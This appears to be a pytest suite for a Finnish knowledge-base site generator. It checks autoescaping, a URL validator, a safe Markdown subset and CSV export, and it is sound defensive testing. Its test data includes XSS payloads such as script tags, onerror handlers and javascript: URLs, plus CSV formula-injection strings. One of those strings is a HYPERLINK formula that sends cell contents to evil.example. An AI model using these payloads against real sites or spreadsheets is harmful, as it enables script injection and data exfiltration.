"""Escaping by construction: which templates autoescape, the address rule, and the
Markdown subset of data texts (checked after rendering, as a browser reads it)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from kb.escape import autoescape_for, escape_meta
from kb.markdown import problems, render
from kb.weblinks import WEB_SCHEMES, url_problem


@pytest.mark.parametrize(
    "name",
    [
        "kb-record.html",
        "kb-feed.html",
        "partials/kb-macros.html",
        "main.html",
        "404.html",
        "sitemap.xml",
        "partials/header.html",
        "partials/copyright.html",
        "partials/alternate.html",
    ],
)
def test_generator_templates_autoescape(name: str) -> None:
    assert autoescape_for(name)


@pytest.mark.parametrize(
    "name", ["base.html", "partials/content.html", "partials/nav.html", "x/kb-a.html", None]
)
def test_theme_templates_keep_their_setting(name: str | None) -> None:
    assert not autoescape_for(name)


def test_meta_becomes_escaped_markup_once() -> None:
    meta = {"title": 'Ohjelma "Hankinta-Suomi" <b>', "description": "a & b", "kb_key": "x"}
    escape_meta(meta)
    escape_meta(meta)  # idempotent: never double-escaped
    assert str(meta["title"]) == "Ohjelma &#34;Hankinta-Suomi&#34; &lt;b&gt;"
    assert isinstance(meta["description"], Markup) and str(meta["description"]) == "a &amp; b"
    assert meta["kb_key"] == "x"


@pytest.mark.parametrize(
    "url",
    [
        "https://vm.fi/",
        "http://www.hankinnat.fi/a?b=1&c=2#d",
        "https://ääkköset.fi/x",
        "mailto:kirjaamo@vm.fi",
        "https://vm.fi/sv/it's-fine",
        "https://vm.fi:8443/x",
    ],
)
def test_addresses_we_publish(url: str) -> None:
    assert url_problem(url) is None


@pytest.mark.parametrize(
    ("url", "found"),
    [
        ('https://vm.fi/"><script>alert(1)</script>', "quote"),
        ('https://vm.fi/x.pdf"autofocus/onfocus="alert(3)"', "quote"),
        ("https://vm.fi/<x>", "angle bracket"),
        ("javascript:alert(1)", "must start with"),
        ("JaVaScRiPt:alert(1)", "must start with"),
        ("data:text/html,<x>", "must start with"),
        ("data:text/html,x", "must start with"),
        ("https://vm.fi/a b", "space"),
        ("https://vm.fi/\u202egnp.exe", "U+202E"),
        ("https://vm.fi/\u200b", "U+200B"),
        ("https://vm.fi/\x00", "U+0000"),
        ("https://vm.fi/\\x", "U+005C"),
        ("https://", "no valid host"),
        ("https://localhost/", "no valid host"),
        ("https://user:pw@vm.fi/", "user name"),
        ("https://vm.fi:99999/", "not a valid"),
        ("//vm.fi/", "must start with"),
        ("https:vm.fi", "must start with"),
        ("mailto:", "one e-mail address"),
        ("mailto:a@b.fi?cc=c@d.fi", "one e-mail address"),
        ("ftp://vm.fi/", "must start with"),
    ],
)
def test_addresses_we_refuse(url: str, found: str) -> None:
    problem = url_problem(url)
    assert problem is not None and found in problem, problem


def test_settings_take_web_addresses_only() -> None:
    assert url_problem("mailto:a@b.fi", schemes=WEB_SCHEMES) is not None
    assert "https:// or http://" in str(url_problem("ftp://x.fi/", schemes=WEB_SCHEMES))


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](JAVASCRIPT:alert(1))",
        "[a][r]\n\n> [r]: javascript:alert(1)",
        "[a][r]\n\n* [r]: javascript:alert(1)",
        "[a][r]\n\n1. item\n\n    [r]: javascript:alert(1)",
        "[a][r]\n\n!!! note\n    [r]: javascript:alert(1)",
        "[a]\n\n[a]: data:text/html,x",
        "![x](https://vm.fi/x.png)",
        '[x](https://vm.fi/ "t") ![y](https://vm.fi/a.png "u")',
        "[x](https://vm.fi/\u202ex)",
    ],
)
def test_markdown_links_checked_after_parsing(text: str) -> None:
    """Refused wherever the definition stands, or (in a code block) no link at all."""
    assert problems(text) or not any(
        name in ("href", "src") for _, attrs in _elements(str(render(text))) for name, _ in attrs
    ), text


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def _elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize(
    "text",
    [
        "[x](https://vm.fi/){onclick=alert(1)}",
        "## Otsikko {#__config}",
        "## __config",
        "Teksti\n{: onclick=alert(1) }",
        '<div markdown="1">*x*</div>',
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<!-- x --><b onclick=x>y</b>",
    ],
)
def test_markdown_subset_has_no_attributes_ids_or_html(text: str) -> None:
    found = _elements(str(render(text)))
    assert {tag for tag, _ in found} <= {"p", "h2", "a", "em"}, found
    assert all(name == "href" for _, attrs in found for name, _ in attrs), found


def test_markdown_subset_renders_the_usual_formatting() -> None:
    html = str(
        render(
            "## Tausta\n\n**Lihava** ja *kursiivi*, [linkki](https://vm.fi/), "
            "<https://vm.fi/a>, <kirjaamo@vm.fi>.\n\n- yksi\n- kaksi\n\n"
            "> lainaus\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n"
        )
    )
    for fragment in (
        "<h2>Tausta</h2>",
        "<strong>Lihava</strong>",
        "<em>kursiivi</em>",
        '<a href="https://vm.fi/">linkki</a>',
        "<li>kaksi</li>",
        "<blockquote>",
        '<th style="text-align: left;">a</th>',
    ):
        assert fragment in html
    assert not problems("## Tausta\n\n[linkki](https://vm.fi/) <kirjaamo@vm.fi>")


def test_refused_markdown_renders_as_text() -> None:
    html = str(render("[x](javascript:alert(1))"))
    assert "href" not in html and html.startswith("<p>")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1+1",
    ],
)
def test_csv_cells_never_start_a_formula(small_yaml: str, text: str) -> None:
    import csv
    import io

    import yaml

    from kb.export.files import to_csv
    from kb.records import build_site

    data = yaml.safe_load(small_yaml)
    data["records"][0]["title"] = {"fi": text, "sv": text}
    data["records"][0]["summary"] = {"fi": "Tavallinen teksti", "sv": "- lista"}
    site = build_site(data)
    for lang in ("fi", "sv"):
        rows = list(csv.reader(io.StringIO(to_csv(site, lang, "https://x.fi/"))))
        cells = [cell for row in rows for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in cells)
        assert "'" + text.strip() in [c.strip() for c in cells] or "'" + text in cells
    assert "Tavallinen teksti" in to_csv(site, "fi", "https://x.fi/")
